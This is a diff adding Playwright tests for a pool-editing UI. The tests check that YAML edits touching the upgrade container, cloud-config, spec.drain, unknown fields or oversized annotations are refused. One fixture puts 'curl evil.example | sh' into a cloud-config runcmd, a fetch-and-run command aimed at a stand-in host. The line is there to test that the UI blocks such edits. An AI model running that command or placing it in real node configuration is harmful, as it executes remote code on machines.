@@ -77,6 +77,80 @@ test.describe('pool form: tabs and the YAML view', () => {
     expect(field(await readPool(page), 'metadata.resourceVersion')).toBe(field(before, 'metadata.resourceVersion'));
   });
 
+  // Issue 25: the upgrade container, prepare and cloud-config decide what the nodes run, as the pin does.
+  for (const [name, change, path] of [
+    ['the upgrade container\'s image', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
+      o.spec.upgradeContainer = { image: 'registry.example/evil:1' };
+    }, 'spec.upgradeContainer'],
+    ['FORCE in the upgrade container', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
+      o.spec.upgradeContainer = { envs: [{ name: 'FORCE', value: 'true' }] };
+    }, 'spec.upgradeContainer'],
+    ['the cloud-config', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
+      o.spec.cloudConfig = { runcmd: ['curl evil.example | sh'] };
+    }, 'spec.cloudConfig'],
+  ] as const) {
+    test(`a YAML edit of ${ name } is refused beside the editor, naming the field, and nothing is written`, async({ page }) => {
+      await loginAs(page, 'admin');
+      const before = await readPool(page);
+
+      await openYaml(page);
+      await editYaml(page, change);
+      await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText(`This YAML changes ${ path }, which decides what runs on the nodes`);
+      await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
+      expect(field(await readPool(page), 'metadata.resourceVersion')).toBe(field(before, 'metadata.resourceVersion'));
+    });
+  }
+
+  test('deleting spec.concurrency in the YAML deletes it; deleting spec.drain is refused with the CRD default it would store', async({ page }) => {
+    await loginAs(page, 'admin');
+    const before = await readPool(page);
+
+    expect(field(before, 'spec.concurrency')).toBeDefined();
+    await openYaml(page);
+    await editYaml(page, (object) => {
+      delete object.spec.drain;
+      delete object.spec.concurrency;
+    });
+    await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText('spec.drain is deleted in this YAML, but the CRD gives it a default');
+    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
+
+    await editYaml(page, (object) => {
+      object.spec.drain = field(before, 'spec.drain');
+    });
+    await expect(page.getByTestId('pool-yaml-problems')).toBeEmpty();
+    await page.getByTestId('pool-save-async-button').click();
+    await expect(page).toHaveURL(/\/pools$/);
+    const after = await readPool(page);
+
+    expect(field(after, 'spec.concurrency')).toBeUndefined();
+    expect(field(after, 'spec.drain')).toEqual(field(before, 'spec.drain'));
+    expect(field(after, 'spec.managedOSVersionName')).toBe(field(before, 'spec.managedOSVersionName'));
+  });
+
+  test('a spec field the CRD does not know is refused before sending, naming it', async({ page }) => {
+    await loginAs(page, 'admin');
+    const before = await readPool(page);
+
+    await openYaml(page);
+    await editYaml(page, (object) => {
+      object.spec.bogusField = true;
+    });
+    await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText('spec.bogusField is not a field of a ManagedOSImage');
+    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
+    expect(field(await readPool(page), 'metadata.resourceVersion')).toBe(field(before, 'metadata.resourceVersion'));
+  });
+
+  test('annotations over the API server\'s 256 KiB are refused beside the editor', async({ page }) => {
+    await loginAs(page, 'admin');
+    await openYaml(page);
+    await editYaml(page, (object) => {
+      // 300 kB in words: the YAML folds it into short lines, which the editor draws quickly.
+      object.metadata.annotations = { ...object.metadata.annotations, note: `${ 'lorem ipsum '.repeat(25_000) }end` };
+    });
+    await expect(page.getByTestId('pool-yaml-problems')).toContainText('the API server accepts at most 262144');
+    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
+  });
+
   test('YAML that does not parse shows its line and disables saving; the form says so until it is discarded', async({ page }) => {
     await loginAs(page, 'admin');
     await openYaml(page);
